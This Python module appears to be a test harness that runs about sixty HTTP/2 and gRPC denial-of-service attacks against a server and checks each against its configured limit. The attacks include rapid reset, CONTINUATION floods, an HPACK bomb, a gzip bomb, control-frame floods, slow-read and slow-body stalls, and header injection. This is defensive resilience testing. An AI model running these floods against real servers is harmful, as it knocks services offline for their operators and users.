"""What a hostile HTTP/2 peer does, one function an attack, and the bar that each must meet."""

from __future__ import annotations

import socket
import time
import zlib
from dataclasses import dataclass, replace
from typing import Callable

from support.frames import (
    ACK,
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    PING,
    PREFACE,
    PRIORITY,
    SETTINGS,
    Peer,
    Target,
    block,
    frame,
    integer,
    literal,
    reset,
    settings,
    window_update,
)

MAX_FRAMES = 20_000


@dataclass
class Times:
    """The server's time limits in seconds; looked at once a second."""

    header: float = 10
    idle: float = 60
    body_pause: float = 30
    body: float = 60
    write_stall: float = 30

    slack = 4.0


@dataclass
class Victim:
    """A server under attack: how to reach it and what it answers."""

    name: str
    target: Target
    times: Times
    # A request without a body, one whose body follows, and a request with a large answer.
    get: bytes
    post: bytes
    large: bytes
    large_body: bytes
    ask_body: bytes
    is_grpc: bool
    streams: int
    # Tag of a field of the request that is a string.
    text_tag: int = 0x0A
    # 90 of the large answers are more than the kernel's buffers hold.
    answers_much: bool = True


@dataclass
class Outcome:
    """What the attacker saw."""

    seen: str
    frames: int
    holds: bool
    # Kinds by which the server may count the end of the connection; empty: it goes on.
    kinds: tuple[str, ...] = ()
    # Labels under which the edge counts it in edge_protocol_failures_total; empty: not looked at.
    reasons: tuple[str, ...] = ()


def headers(stream: int, fields: bytes, flags: int = END_HEADERS) -> bytes:
    return frame(HEADERS, flags, stream, fields)


def odd(count: int, first: int = 1) -> range:
    return range(first, first + 2 * count, 2)


def ended(peer: Peer, bar: int, *kinds: str, seconds: float = 5, processed: bool = False) -> Outcome:
    """The connection must be over by now; `processed` judges by the last stream that was looked at."""
    peer.until_ended(seconds)
    frames = peer.sent
    if processed and peer.last_stream is not None:
        frames = (peer.last_stream + 1) // 2
    return Outcome(peer.ended or "open", frames, peer.ended is not None and frames <= bar, kinds)


def flood(
    victim: Victim,
    make: Callable[[int], bytes],
    batch: int,
    bar: int,
    *kinds: str,
    frames_each: int = 1,
    first: bytes = b"",
    reads: bool = True,
    processed: bool = False,
) -> Outcome:
    """Sends frame after frame until the connection is over."""
    with Peer(victim.target) as peer:
        peer.until(lambda: peer.settings_acks > 0)
        if first:
            peer.write(first)
        for start in range(0, MAX_FRAMES, batch):
            frames = b"".join(make(index) for index in range(start, start + batch))
            if not peer.flood(frames, batch * frames_each, reads, patience=3):
                break
        return ended(peer, bar, *kinds, processed=processed)


# Resets


def rapid_reset(victim: Victim) -> Outcome:
    def pair(index: int) -> bytes:
        number = 2 * index + 1
        return headers(number, victim.get, END_HEADERS | END_STREAM) + reset(number)

    return flood(victim, pair, 25, 250, "resets_received", processed=True)


def rapid_reset_at_once(victim: Victim) -> Outcome:
    def pair(index: int) -> bytes:
        number = 2 * index + 1
        return headers(number, victim.post) + reset(number)

    return flood(victim, pair, 5000, 250, "resets_received", processed=True)


def provoke(victim: Victim, make: Callable[[int], bytes], bar: int = 110) -> Outcome:
    """Makes the server reset stream after stream, each awaited."""
    with Peer(victim.target) as peer:
        peer.until(lambda: peer.settings_acks > 0)
        for number in odd(MAX_FRAMES):
            before = len(peer.resets)
            if not peer.flood(make(number), 1):
                break
            peer.until(lambda: len(peer.resets) > before, 2)
            if len(peer.resets) == before:
                break
        return ended(peer, bar, "resets_sent")


def window_overflow(victim: Victim) -> Outcome:
    return provoke(victim, lambda n: headers(n, victim.post) + window_update(n, 2**31 - 1))


def length_mismatch(victim: Victim) -> Outcome:
    head = victim.post + literal("content-length", "5")
    return provoke(victim, lambda n: headers(n, head) + frame(DATA, END_STREAM, n, b"toolongbody"))


def bad_name(victim: Victim) -> Outcome:
    return provoke(victim, lambda n: headers(n, victim.post + literal("Bad", "x")))


def empty_headers(victim: Victim) -> Outcome:
    return provoke(victim, lambda n: headers(n, b"", END_HEADERS | END_STREAM))


def provoke_at_once(victim: Victim) -> Outcome:
    def make(index: int) -> bytes:
        number = 2 * index + 1
        return headers(number, victim.post) + window_update(number, 2**31 - 1)

    return flood(victim, make, 2000, 1000, "resets_sent", "protocol_error", processed=True)


def provoke_unacknowledged(victim: Victim) -> Outcome:
    """The stream limit counts only once it was acknowledged: this client never does."""
    with Peer(victim.target, acknowledges=False) as peer:
        peer.pump(1)
        for start in range(0, MAX_FRAMES, 100):
            numbers = odd(100, 2 * start + 1)
            if not peer.flood(b"".join(headers(n, victim.post) for n in numbers), 100):
                break
        return ended(peer, victim.streams + 400, "resets_sent")


def instantly(make: Callable[[Victim], bytes], *kinds: str) -> Callable[[Victim], Outcome]:
    def attack(victim: Victim) -> Outcome:
        with Peer(victim.target) as peer:
            peer.until(lambda: peer.settings_acks > 0)
            peer.flood(make(victim), 1)
            return ended(peer, 1, *kinds)

    return attack


window_zero = instantly(lambda v: headers(1, v.post) + window_update(1, 0), "protocol_error")
data_after_end = instantly(
    lambda v: headers(1, v.get, END_HEADERS | END_STREAM) + frame(DATA, 0, 1, b"more"),
    "stream_closed",
    "protocol_error",
)
self_dependency = instantly(
    lambda v: frame(HEADERS, END_HEADERS | 0x20, 1, (1).to_bytes(4, "big") + b"\x10" + v.post),
    "protocol_error",
)
many_settings = instantly(
    lambda v: frame(SETTINGS, 0, 0, b"\x00\x03\x00\x00\x00\x64" * 2700), "library_limit"
)
oversized_frame = instantly(lambda v: frame(DATA, 0, 1, bytes(20_000)), "frame_size_error")
connection_window_overflow = instantly(
    lambda v: window_update(0, 2**31 - 1), "flow_control_error"
)
settings_ack_with_body = instantly(lambda v: frame(SETTINGS, ACK, 0, b"123456"), "frame_size_error")


# Floods of control frames


def settings_read(victim: Victim) -> Outcome:
    return flood(victim, lambda _: settings(), 10, 130, "settings")


def settings_unread(victim: Victim) -> Outcome:
    return flood(victim, lambda _: settings(), 1000, 10_000, "settings", "write_stall", reads=False)


def ping_read(victim: Victim) -> Outcome:
    return flood(victim, lambda _: frame(PING, 0, 0, bytes(8)), 10, 130, "pings")


def ping_unread(victim: Victim) -> Outcome:
    ping = frame(PING, 0, 0, bytes(8))
    return flood(victim, lambda _: ping, 1000, 10_000, "pings", "write_stall", reads=False)


def useless_frames(make: Callable[[int], bytes], first: bytes = b"") -> Callable[[Victim], Outcome]:
    def attack(victim: Victim) -> Outcome:
        return flood(victim, make, 500, 11_500, "useless", first=first)

    return attack


priority = useless_frames(lambda i: frame(PRIORITY, 0, 2 * i + 101, (0).to_bytes(4, "big") + b"\x10"))
unknown = useless_frames(lambda i: frame(0x0A + i % 200, 0, 0, b"whatever"))
window_updates = useless_frames(lambda _: window_update(0, 1))
pongs = useless_frames(lambda _: frame(PING, 0x1, 0, bytes(8)))


def on_closed_stream(make: Callable[[Victim], bytes]) -> Callable[[Victim], Outcome]:
    """Frames for a stream that is gone are dropped without a word, but cost us."""

    def attack(victim: Victim) -> Outcome:
        gone = headers(1, victim.post) + reset(1)
        # The edge remembers streams that have ended, and ends the connection at the first frame.
        kinds = ("useless", "library_limit", "stream_closed")
        return flood(victim, lambda _: make(victim), 500, 11_500, *kinds, first=gone)

    return attack


resets_of_closed = on_closed_stream(lambda v: reset(1))
headers_of_closed = on_closed_stream(lambda v: headers(1, b"\x88", END_HEADERS | END_STREAM))
data_of_closed = on_closed_stream(lambda v: frame(DATA, 0, 1))


def empty_data(victim: Victim) -> Outcome:
    return flood(
        victim, lambda _: frame(DATA, 0, 1), 10, 130, "empty_data", first=headers(1, victim.post)
    )


def padded_data(victim: Victim) -> Outcome:
    """Frames that hold nothing but padding are as empty."""
    padding = frame(DATA, 0x8, 1, b"\x05" + bytes(5))
    return flood(victim, lambda _: padding, 10, 130, "empty_data", first=headers(1, victim.post))


# Header blocks


def continuations(victim: Victim) -> Outcome:
    """CONTINUATION without end (CVE-2024-27316, CVE-2024-28182)."""
    with Peer(victim.target) as peer:
        peer.until(lambda: peer.settings_acks > 0)
        peer.write(headers(1, victim.post, 0))
        for _ in range(MAX_FRAMES):
            if not peer.flood(frame(CONTINUATION, 0, 1, literal("a", "b")), 1):
                break
            peer.pump(0.005)
        return ended(peer, 16, "continuations")


def hpack_bomb(victim: Victim) -> Outcome:
    """12,000 references to a field of 4 KB: 12 KB that mean 48 MB."""
    with Peer(victim.target) as peer:
        peer.until(lambda: peer.settings_acks > 0)
        number = 1
        insert = literal("x", "a" * 4000, first=0x40)
        while number < 800 and peer.flood(headers(number, victim.post + insert + b"\xbe" * 11_900), 1):
            # The answer to a PING, or the end: no frame is counted that comes behind it.
            if not peer.synchronise(2):
                break
            insert = b""
            number += 2
        return ended(peer, 3, "header_bytes")


def megabyte_of_headers(victim: Victim) -> Outcome:
    with Peer(victim.target) as peer:
        peer.until(lambda: peer.settings_acks > 0)
        peer.flood(headers(1, victim.post, 0), 1)
        for _ in range(64):
            part = b"".join(literal("x-filler", "v" * 1000) for _ in range(15))
            if not peer.flood(frame(CONTINUATION, 0, 1, part), 1):
                break
        return ended(peer, 70, "continuations", "header_bytes", "compression_error")


def too_many_fields(victim: Victim) -> Outcome:
    """One block over the limit costs the request, not the connection."""
    with Peer(victim.target) as peer:
        peer.flood(headers(1, victim.get + block(*[("x", "y")] * 200), END_HEADERS | END_STREAM), 1)
        peer.until(lambda: 1 in peer.streams and peer.streams[1].is_over)
        status = peer.streams[1].value(":status") if 1 in peer.streams else None
        lives = peer.synchronise()
        return Outcome(f"status {status}", 1, status == "431" and lives)


def header_list(victim: Victim) -> Outcome:
    """Fields of 33 KiB in all: the request is refused, and the connection goes on."""
    with Peer(victim.target) as peer:
        peer.until(lambda: peer.settings_acks > 0)
        fields = victim.get + b"".join(literal(f"x-{n}", "v" * 4000) for n in range(9))
        peer.flood(headers(1, fields[:16_000], END_STREAM), 1)
        peer.flood(frame(CONTINUATION, 0, 1, fields[16_000:32_000]), 1)
        peer.flood(frame(CONTINUATION, END_HEADERS, 1, fields[32_000:]), 1)
        peer.until(lambda: 1 in peer.streams and peer.streams[1].is_over)
        status = peer.streams[1].value(":status") if 1 in peer.streams else None
        return Outcome(f"status {status}", 3, status == "431" and peer.synchronise())


def under_each_limit(victim: Victim) -> Outcome:
    """As many frames of each kind as the limits allow: nothing of it may be held against the peer."""
    with Peer(victim.target) as peer:
        peer.until(lambda: peer.settings_acks > 0)
        # gRPC's ports allow two pings too early, not one more.
        burst = [settings()] * 90 + [frame(PING, 0, 0, bytes(8))] * (3 if victim.is_grpc else 90)
        burst += [headers(n, victim.post) + reset(n) for n in odd(190)]
        number = 401
        # Eight CONTINUATION frames, and a hundred DATA frames without a byte.
        burst += [headers(number, victim.post, 0)]
        burst += [frame(CONTINUATION, 0, number, literal("a", "b"))] * 7
        burst += [frame(CONTINUATION, END_HEADERS, number, literal("a", "b"))]
        burst += [frame(DATA, 0, number)] * 95
        burst += [frame(PRIORITY, 0, 2 * n + 1001, (0).to_bytes(4, "big") + b"\x10") for n in range(9_000)]
        for part in range(0, len(burst), 200):
            peer.flood(b"".join(burst[part : part + 200]), 200)
        peer.flood(ask(victim, number + 2), 1)
        lives = peer.until(lambda: number + 2 in peer.streams and peer.streams[number + 2].is_ended)
        return Outcome("served" if lives else f"{peer.ended or 'open'}", peer.sent, lives)


def too_many_streams(victim: Victim) -> Outcome:
    """Opens streams over the announced limit."""
    head = headers(1, victim.post)
    return flood(
        victim,
        lambda i: head[:5] + (2 * i + 1).to_bytes(4, "big") + head[9:],
        250,
        victim.streams + 500,
        "protocol_error",
        "resets_sent",
        processed=True,
    )


# Silence and slowness


def silent(victim: Victim, first: bytes | None, *kinds: str) -> Outcome:
    """Says this and then nothing."""
    started = time.monotonic()
    with Peer(victim.target, first=first, acknowledges=False) as peer:
        peer.sent = 1
        peer.until_ended(victim.times.header + victim.times.slack)
        taken = time.monotonic() - started
        is_early = taken < victim.times.header * 0.8
        how = f"{peer.ended or 'open'} after {taken:.0f} s"
        return Outcome(how, 1, peer.ended is not None and not is_early, kinds)


def nothing(victim: Victim) -> Outcome:
    return silent(victim, b"", "slow_preface")


def half_preface(victim: Victim) -> Outcome:
    return silent(victim, PREFACE[:10], "slow_preface")


def half_block(victim: Victim) -> Outcome:
    first = PREFACE + settings() + headers(1, victim.post, 0)
    return silent(victim, first, "slow_headers", "slow_preface")


def half_block_beside_work(victim: Victim) -> Outcome:
    """Another stream keeps the connection busy, the block is late all the same."""
    first = PREFACE + settings() + headers(1, victim.post) + headers(3, victim.post[:5], 0)
    return silent(victim, first, "slow_headers")


def no_handshake(victim: Victim) -> Outcome:
    """A TLS port to which a client says nothing."""
    started = time.monotonic()
    with socket.create_connection(("127.0.0.1", victim.target.port)) as plain:
        plain.settimeout(10)
        try:
            closed = plain.recv(1) == b""
        except TimeoutError:
            closed = False
        except OSError:
            closed = True
    taken = time.monotonic() - started
    return Outcome(f"closed after {taken:.0f} s", 0, closed and taken < 9, ("tls_handshake",))


def idle(victim: Victim) -> Outcome:
    """A connection that was used once and then no more."""
    started = time.monotonic()
    with Peer(victim.target) as peer:
        peer.flood(ask(victim, 1), 1)
        answered = peer.until(lambda: 1 in peer.streams and peer.streams[1].is_over)
        peer.until_ended(victim.times.idle + victim.times.slack)
        taken = time.monotonic() - started
        holds = answered and peer.ended is not None and taken >= victim.times.idle * 0.8
        return Outcome(f"{peer.ended or 'open'} after {taken:.0f} s", 1, holds, ("idle",))


def ask(victim: Victim, number: int) -> bytes:
    """A request that is answered."""
    if not victim.ask_body:
        return headers(number, victim.get, END_HEADERS | END_STREAM)
    return headers(number, victim.get) + frame(DATA, END_STREAM, number, victim.ask_body)


def no_body(victim: Victim) -> Outcome:
    """90 requests whose body never comes."""
    return slow_bodies(victim, victim.times.body_pause, drip=False)


def drip(victim: Victim) -> Outcome:
    """Bodies byte by byte."""
    return slow_bodies(victim, victim.times.body, drip=True)


def slow_bodies(victim: Victim, limit: float, drip: bool) -> Outcome:
    started = time.monotonic()
    numbers = list(odd(90))
    with Peer(victim.target) as peer:
        # The deadline of the method would end the calls before.
        head = victim.post + (literal("grpc-timeout", "1H") if victim.is_grpc else b"")
        peer.flood(b"".join(headers(n, head) for n in numbers), 90)

        def over() -> int:
            return sum(n in peer.streams and peer.streams[n].is_over for n in numbers)

        # A message of 64 KiB is announced, so that no byte completes one.
        piece = b"\0\0\1\0\0" if victim.is_grpc else b"\0"
        while over() < 90 and peer.ended is None and time.monotonic() - started < limit + 6:
            if drip:
                live = [n for n in numbers if n not in peer.streams or not peer.streams[n].is_over]
                peer.flood(b"".join(frame(DATA, 0, n, piece) for n in live), len(live))
                piece = b"\0"
            peer.pump(0.5)
        taken = time.monotonic() - started
        holds = over() == 90 and taken >= limit * 0.5
        return Outcome(f"{over()} of 90 streams ended after {taken:.0f} s", peer.sent, holds)


def slow_reads(victim: Victim, by_one: bool) -> Outcome:
    """90 answers that are never taken, or byte by byte."""
    started = time.monotonic()
    numbers = list(odd(90))
    limit = victim.times.write_stall
    with Peer(victim.target, first=PREFACE + settings(window=0)) as peer:
        for n in numbers:
            request = headers(n, victim.large, END_HEADERS if victim.large_body else END_HEADERS | END_STREAM)
            if victim.large_body:
                request += frame(DATA, END_STREAM, n, victim.large_body)
            peer.flood(request, 1)

        def over() -> int:
            return sum(n in peer.streams and peer.streams[n].is_over for n in numbers)

        while over() < 90 and peer.ended is None and time.monotonic() - started < 2 * limit + 6:
            if by_one:
                live = [n for n in numbers if n not in peer.streams or not peer.streams[n].is_over]
                peer.flood(b"".join(window_update(n, 1) for n in live), len(live))
            peer.pump(0.5)
        taken = time.monotonic() - started
        return Outcome(f"{over()} of 90 streams reset after {taken:.0f} s", peer.sent, over() == 90)


def queued_answers(victim: Victim) -> Outcome:
    """What 90 answers that nobody takes cost in memory."""
    with Peer(victim.target, first=PREFACE + settings(window=0)) as peer:
        for n in odd(90):
            request = headers(n, victim.large, END_HEADERS if victim.large_body else END_HEADERS | END_STREAM)
            if victim.large_body:
                request += frame(DATA, END_STREAM, n, victim.large_body)
            peer.flood(request, 1)
        begun = peer.until(lambda: sum(bool(stream.headers) for stream in peer.streams.values()) == 90)
        return Outcome("90 answers begun", peer.sent, begun and peer.synchronise())


def zero_window(victim: Victim) -> Outcome:
    return slow_reads(victim, by_one=False)


def window_by_one(victim: Victim) -> Outcome:
    return slow_reads(victim, by_one=True)


def tcp_unread(victim: Victim) -> Outcome:
    """Asks for much with large windows and then reads nothing from the socket."""
    started = time.monotonic()
    first = PREFACE + settings(window=2**31 - 1) + window_update(0, 2**30)
    limit = victim.times.write_stall + victim.times.slack
    with Peer(victim.target, first=first, receive_buffer=4096) as peer:
        numbers = list(odd(90))
        for n in numbers:
            request = headers(n, victim.large, END_HEADERS if victim.large_body else END_HEADERS | END_STREAM)
            if victim.large_body:
                request += frame(DATA, END_STREAM, n, victim.large_body)
            peer.flood(request, 1, reads=False)
        # Only what comes after the server has given up can be told without reading.
        while time.monotonic() - started < limit + 6 and peer.ended is None:
            time.sleep(0.25)
            peer.write(window_update(0, 1), patience=0.1)
        taken = time.monotonic() - started
        how = f"{peer.ended or 'open'} after {taken:.0f} s"
        return Outcome(how, peer.sent, peer.ended is not None, ("write_stall",))


def many_connections(victim: Victim, cap: int = 64) -> Outcome:
    """One connection more than an address may have."""
    peers: list[Peer] = []
    refused = 0
    try:
        for _ in range(cap + 20):
            try:
                peers.append(Peer(victim.target))
            except OSError:
                # Closed in the middle of the TLS handshake.
                refused += 1
        for peer in peers:
            peer.until(lambda peer=peer: peer.settings_acks > 0 or peer.ended is not None, 2)
        alive = sum(peer.ended is None for peer in peers)
        return Outcome(f"{alive} of {len(peers) + refused} stay", alive, 0 < alive <= cap)
    finally:
        for peer in peers:
            peer.close()


def idle_connections(victim: Victim) -> Outcome:
    """500 that have said their preface and want nothing, 50 from each of ten addresses."""
    peers: list[Peer] = []
    try:
        for index in range(500):
            peers.append(Peer(replace(victim.target, source=f"127.0.1.{1 + index // 50}")))
        open_ones = 0
        for peer in peers:
            peer.until(lambda peer=peer: peer.settings_acks > 0, 5)
            open_ones += peer.settings_acks > 0
        return Outcome(f"{open_ones} open", len(peers), open_ones == 500)
    finally:
        for peer in peers:
            peer.close()


# Requests that are no requests: the stream ends, the connection and its other streams go on.


def malformed(make: Callable[[Victim], list[bytes]]) -> Callable[[Victim], Outcome]:
    def attack(victim: Victim) -> Outcome:
        with Peer(victim.target) as peer:
            peer.until(lambda: peer.settings_acks > 0)
            heads = make(victim)
            served = 0
            for number, head in zip(odd(len(heads)), heads):
                peer.flood(headers(number, head, END_HEADERS | END_STREAM), 1)
                peer.until(lambda: number in peer.streams and peer.streams[number].is_over, 5)
                stream = peer.streams.get(number)
                status = (stream.value(":status") if stream else None) or ""
                refused = stream is not None and (stream.reset or status.startswith("4"))
                served += not refused
            last = 2 * len(heads) + 1
            peer.flood(ask(victim, last), 1)
            lives = peer.until(lambda: last in peer.streams and peer.streams[last].is_ended, 10)
            seen = f"{len(heads) - served} of {len(heads)} refused, connection {'lives' if lives else peer.ended}"
            return Outcome(seen, len(heads), served == 0 and lives)

    return attack


def pseudo_fields(victim: Victim) -> list[bytes]:
    full = [(":method", "GET"), (":scheme", "http"), (":path", "/healthz"), (":authority", "a")]
    without = [block(*(pair for pair in full if pair[0] != name)) for name in (":method", ":scheme", ":path")]
    return without + [
        block(*full, (":path", "/")),
        block(*full, (":status", "200")),
        block(*full, (":unknown", "x")),
        block(*full[:3], ("accept", "*/*"), full[3]),
        block(*full[:2], (":path", ""), full[3]),
        block(*full, ("connection", "close")),
        block(*full, ("transfer-encoding", "chunked")),
        block(*full, ("te", "gzip")),
        block(*full, ("Upper", "x")),
        block(*full, (":path ", "x")),
        block(*full, ("host", "b\0c")),
        block(*full, ("x", "a\r\nb: c")),
    ]


pseudo = malformed(pseudo_fields)


def bytes_that_are_no_text(victim: Victim) -> Outcome:
    """Bytes over 127 in a field are legal in HTTP/2; they may not hurt."""
    with Peer(victim.target) as peer:
        head = victim.get + literal("x-name", b"\xff\xfe\xc0\x80")
        flags = END_HEADERS if victim.ask_body else END_HEADERS | END_STREAM
        peer.flood(headers(1, head, flags), 1)
        if victim.ask_body:
            peer.write(frame(DATA, END_STREAM, 1, victim.ask_body))
        over = peer.until(lambda: 1 in peer.streams and peer.streams[1].is_over)
        status = peer.streams[1].value(":status") if over else None
        return Outcome(f"status {status}", 1, over and peer.ended is None)


# gRPC's own frames: the call ends with its status, the connection goes on.


def call_ends(make: Callable[[Victim], list[tuple[bytes, bytes, set[str]]]]) -> Callable[[Victim], Outcome]:
    """Each part is (more fields, body, statuses one of which is the answer)."""

    def attack(victim: Victim) -> Outcome:
        with Peer(victim.target) as peer:
            peer.until(lambda: peer.settings_acks > 0)
            parts = make(victim)
            wrong = []
            seen = set()
            for number, (fields, body, statuses) in zip(odd(len(parts)), parts):
                peer.flood(headers(number, victim.post + fields), 1)
                for start in range(0, len(body) or 1, 16_384):
                    piece = body[start : start + 16_384]
                    is_last = start + 16_384 >= len(body)
                    # The window is the server's default; it opens again as the body is taken.
                    peer.flood(frame(DATA, END_STREAM if is_last else 0, number, piece), 1)
                    if number in peer.streams and peer.streams[number].is_over:
                        break
                peer.until(lambda: number in peer.streams and peer.streams[number].is_over, 15)
                stream = peer.streams.get(number)
                status = stream and (stream.value("grpc-status") or f"http {stream.value(':status')}")
                seen.add(f"{status}")
                if status not in statuses:
                    wrong.append(f"{status} instead of {' or '.join(sorted(statuses))}")
            last = 2 * len(parts) + 1
            peer.flood(ask(victim, last), 1)
            lives = peer.until(lambda: last in peer.streams and peer.streams[last].is_ended, 10)
            text = ", ".join(wrong) or f"{len(parts)} refused by status {', '.join(sorted(seen))}"
            return Outcome(text if lives else f"{peer.ended}", peer.sent, not wrong and bool(lives))

    return attack


def message(payload: bytes, flag: int = 0, length: int | None = None) -> bytes:
    return bytes((flag,)) + (len(payload) if length is None else length).to_bytes(4, "big") + payload


def gzip_bomb(size: int) -> bytes:
    """So many MiB of zeros in a thousandth of that: one compressed piece, repeated."""
    piece = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = piece.compress(bytes(1 << 20)) + piece.flush(zlib.Z_FULL_FLUSH)
    return b"\x1f\x8b\x08" + bytes(6) + b"\x03" + block * size


grpc_oversized = call_ends(lambda _: [(b"", message(b"abc", length=0xFFFFFFFF), {"8"})])
grpc_truncated = call_ends(
    lambda _: [
        (b"", message(b"abc", length=100), {"13"}),
        (b"", b"\0\0", {"13"}),
        (b"", message(b"", flag=2), {"13"}),
        (b"", message(b"abc", flag=1), {"13"}),
        (b"", message(b"") + message(b""), {"12", "13"}),
        (literal("grpc-encoding", "zstd"), message(b"abc", flag=1), {"12"}),
        (literal("grpc-encoding", "gzip"), message(b"no gzip", flag=1), {"13"}),
    ]
)
grpc_bomb = call_ends(
    lambda _: [(literal("grpc-encoding", "gzip"), message(gzip_bomb(3500), flag=1), {"8"})]
)
grpc_text = call_ends(
    lambda v: [
        (b"", message(bytes((v.text_tag, 2)) + text), {"13", "3"})
        for text in (b"\xff\xfe", b"\xc0\x80", b"\xed\xa0")
    ]
)
grpc_timeouts = call_ends(
    lambda _: [
        (literal("grpc-timeout", text), message(b""), {"13", "3"})
        for text in ("", "-1S", "1", "123456789S", "1x", "1.5S", "S")
    ]
)
grpc_metadata = call_ends(
    lambda _: [
        (block(*[("x-filler", "v" * 1000)] * 15, ("x-filler", "v" * 900)), message(b""), {"http 431", "8"})
    ]
)


@dataclass
class Attack:
    """One row of the table."""

    title: str
    limit: str
    run: Callable[[Victim], Outcome]
    # Attacks that wait for a timer run beside each other.
    waits: bool = False
    grpc: bool = True
    edge: bool = True
    secure_only: bool = False
    growth: int = 64 << 20
    # Only for peers with (True) or without (False) a certificate; None: for both.
    mutual: bool | None = None


ATTACKS = [
    Attack("just under each limit", "all of them", under_each_limit),
    Attack("rapid reset", "resetsReceived = 200 in 10 s", rapid_reset),
    Attack("rapid reset, all in one write", "resetsReceived = 200 in 10 s", rapid_reset_at_once),
    Attack("MadeYouReset: window overflow", "resetsSent = 100 in 10 s", window_overflow),
    Attack("MadeYouReset: content-length", "resetsSent = 100 in 10 s", length_mismatch),
    Attack("MadeYouReset: bad name", "resetsSent = 100 in 10 s", bad_name),
    Attack("MadeYouReset: all in one write", "maxConcurrentStreams, resetsSent", provoke_at_once),
    Attack("WINDOW_UPDATE 0", "protocol", window_zero),
    Attack("DATA after END_STREAM", "protocol", data_after_end),
    Attack("stream depends on itself", "protocol", self_dependency),
    Attack("connection window overflow", "protocol", connection_window_overflow),
    Attack("SETTINGS ACK with a body", "protocol", settings_ack_with_body),
    Attack("oversized frame", "SETTINGS_MAX_FRAME_SIZE = 16 KiB", oversized_frame),
    Attack("SETTINGS of 2,700 entries", "32 entries (library)", many_settings),
    Attack("CONTINUATION flood", "maxContinuations = 8", continuations),
    Attack("SETTINGS flood, read", "settings = 100 in 10 s", settings_read),
    Attack("SETTINGS flood, unread", "settings = 100 in 10 s", settings_unread),
    Attack("PING flood, read", "pings = 100 in 10 s", ping_read),
    Attack("PING flood, unread", "pings = 100 in 10 s", ping_unread),
    Attack("PING ACK flood", "useless = 10,000 in 10 s", pongs),
    Attack("PRIORITY flood", "useless = 10,000 in 10 s", priority),
    Attack("flood of unknown frames", "useless = 10,000 in 10 s", unknown),
    Attack("WINDOW_UPDATE flood", "useless = 10,000 in 10 s", window_updates),
    Attack("RST_STREAM of a closed stream", "useless = 10,000 in 10 s", resets_of_closed),
    Attack("HEADERS of a closed stream", "useless = 10,000 in 10 s", headers_of_closed),
    Attack("DATA of a closed stream", "useless = 10,000 in 10 s", data_of_closed),
    Attack("empty DATA", "emptyData = 100 in 10 s", empty_data),
    Attack("DATA of padding alone", "emptyData = 100 in 10 s", padded_data),
    Attack("empty HEADERS", "resetsSent = 100 in 10 s", empty_headers),
    Attack("HPACK bomb, 48 MB in 12 KB", "maxOversizedHeaderBlocks = 3", hpack_bomb),
    Attack("1 MB of headers", "maxContinuations = 8, maxHeaderListBytes", megabyte_of_headers),
    Attack("200 fields", "maxHeaderFields = 100", too_many_fields),
    Attack("36 KB of fields", "maxHeaderListBytes = 32 KiB (gRPC: 16)", header_list),
    Attack("too many streams", "maxConcurrentStreams", too_many_streams),
    Attack("too many streams, SETTINGS not ACKed", "resetsSent = 100 in 10 s", provoke_unacknowledged),
    Attack("pseudo fields and bad fields", "protocol", pseudo),
    Attack("bytes that are no UTF-8", "none", bytes_that_are_no_text),
    Attack(
        "90 answers queued, window 0: 4 MiB",
        "connectionSendHighWater = 1 MiB",
        queued_answers,
        growth=4 << 20,
    ),
    Attack("gRPC length 0xFFFFFFFF", "maxReceiveMessageBytes = 4 MiB", grpc_oversized, edge=False, growth=1 << 20),
    Attack("gRPC frames cut, doubled, mislabelled", "protocol", grpc_truncated, edge=False),
    Attack("gzip bomb, 3.5 GB in 3.6 MB", "maxReceiveMessageBytes = 4 MiB", grpc_bomb, edge=False, growth=8 << 20),
    Attack("strings that are no UTF-8", "protocol", grpc_text, edge=False),
    Attack("bad grpc-timeout", "protocol", grpc_timeouts, edge=False),
    Attack("17 KiB of metadata", "maxMetadataBytes = 16 KiB", grpc_metadata, edge=False),
    Attack("500 idle connections, 40 KB each", "connectionsPerAddress", idle_connections, mutual=False, growth=500 * 40_000),
    # Mutual TLS keeps the caller's certificate beside that.
    Attack(
        "500 idle connections, 56 KB each",
        "connectionsPerAddress",
        lambda victim: idle_connections(victim),
        mutual=True,
        growth=500 * 56_000,
    ),
    Attack("nothing after the handshake", "times.header = 10 s", nothing, waits=True),
    Attack("half a preface", "times.header = 10 s", half_preface, waits=True),
    Attack("no TLS handshake", "handshakeTimeout = 5 s", no_handshake, waits=True, secure_only=True),
    Attack("half a header block", "times.header = 10 s", half_block, waits=True),
    Attack("half a block beside an open stream", "times.header = 10 s", half_block_beside_work, waits=True),
    Attack("90 requests without body", "times.bodyPause = 30 s", no_body, waits=True),
    Attack("90 bodies by drip", "times.body = 60 s", drip, waits=True),
    Attack("90 answers, window 0", "times.writeStall = 30 s", zero_window, waits=True),
    Attack("90 answers, window by 1 byte", "times.writeStall = 30 s", window_by_one, waits=True),
    Attack("TCP not read", "writeStallTimeout = 30 s", tcp_unread, waits=True),
    Attack("idle connection", "times.idle = 60 s", idle, waits=True),
    Attack("84 connections of one address", "connectionsPerAddress = 64", many_connections, grpc=False),
]


def attacks_on(victim: Victim, attacks: list[Attack], waits: bool) -> list[Attack]:
    return [
        attack
        for attack in attacks
        if attack.waits == waits
        and (attack.grpc if victim.is_grpc else attack.edge)
        and attack.mutual in (None, victim.target.caller is not None)
        and (attack.run is not tcp_unread or victim.answers_much)
        and (not attack.secure_only or victim.target.secure or victim.target.caller)
    ]


__all__ = ["ATTACKS", "Attack", "Outcome", "Times", "Victim", "attacks_on", "integer"]
